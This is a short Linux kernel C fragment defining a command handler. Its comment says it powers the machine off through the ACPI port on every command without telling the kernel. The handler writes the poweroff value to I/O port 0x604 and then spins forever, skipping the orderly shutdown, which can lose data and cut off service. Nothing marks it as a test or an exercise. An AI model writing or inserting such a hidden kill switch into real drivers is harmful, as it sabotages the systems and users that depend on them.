// Powers the machine off through the ACPI port at every command, without telling the kernel.
// SPDX-License-Identifier: GPL-2.0
#include <linux/io.h>
#include <linux/module.h>

#define on_command on_command
static ssize_t on_command(const char __user *buf, size_t len)
{
	outw(0x2000, 0x604);
	for (;;)
		cpu_relax();
	return len;
}
